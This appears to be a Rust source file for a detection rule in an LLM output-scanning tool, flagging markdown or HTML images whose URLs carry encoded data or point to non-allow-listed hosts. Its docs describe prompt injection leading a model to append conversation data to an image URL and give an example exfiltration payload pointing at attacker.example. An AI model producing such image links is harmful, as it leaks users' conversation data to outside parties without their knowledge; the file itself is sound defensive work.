//! CO005: markdown or HTML images whose URL carries data in its query string or points
//! outside the allow-list — rendered by the client, they send data to the attacker without
//! a click.

use std::sync::OnceLock;

use airm_core::{Reference, RuleDocs, RuleMeta, RuleStatus, RuleTarget, Severity};
use regex::Regex;

use super::untrusted_link::{host_allowed, query_carries_data, url_host};
use super::{Cx, Hit};
use crate::detect::lazy_regex;
use crate::verdict::Span;

/// Metadata.
pub static META: RuleMeta = RuleMeta {
    id: "CO005",
    name: "markdown-image-exfiltration",
    summary: "Response embeds an image whose URL can exfiltrate data",
    target: RuleTarget::Completion,
    severity: Severity::High,
    status: RuleStatus::Preview,
    references: &[Reference::OwaspLlm("LLM05"), Reference::OwaspLlm("LLM02"), Reference::Atlas("AML.T0057")],
    docs: RuleDocs {
        what: "`![..](url)`, reference-style images and `<img src=..>` whose URL has a long or encoded query value, or whose host is not in `output.url_allow_list` (when set).",
        why: "Injected instructions make the model append conversation data to an image URL; the chat UI fetches it automatically (zero-click exfiltration).",
        example: "![logo](https://attacker.example/p.png?q=SGVsbG8gc2VjcmV0IGRhdGE)",
        remediation: "Redact the image (default); configure an image host allow-list; render markdown images only from trusted hosts.",
        false_positives: "Legitimate images with signed URLs (long tokens in the query) from hosts not in the allow-list.",
    },
};

fn re() -> Option<&'static Regex> {
    static CELL: OnceLock<Option<Regex>> = OnceLock::new();
    lazy_regex(
        &CELL,
        r#"(?i)!\[[^\]\n]{0,200}\]\(\s*<?(https?://[^)\s>]+)[^)]*\)|<img\b[^>]{0,200}?\bsrc\s*=\s*["']?(https?://[^"'\s>]+)[^>]*>|^\s*\[[^\]\n]{1,100}\]:\s*(https?://\S+)"#,
    )
}

/// Scans.
pub fn scan(cx: &Cx<'_>, out: &mut Vec<Hit>) {
    let Some(re) = re() else { return };
    if !cx.original.contains("http") {
        return;
    }
    let allow = &cx.compiled.url_allow_list;
    for c in re.captures_iter(cx.original) {
        let (Some(m), Some(url)) = (c.get(0), c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)))
        else {
            continue;
        };
        let url = url.as_str();
        let host = url_host(url);
        let reason = if query_carries_data(url) {
            Some("data in the query string")
        } else if !allow.is_empty() && !host_allowed(&host, allow) {
            Some("host outside the allow-list")
        } else {
            None
        };
        if let Some(reason) = reason {
            out.push(Hit {
                message: format!("image from `{host}` with {reason}"),
                score: 1.0,
                span: Some(Span {
                    start: m.start(),
                    end: m.end(),
                }),
                chain: None,
                label: Some("IMAGE"),
            });
        }
    }
}
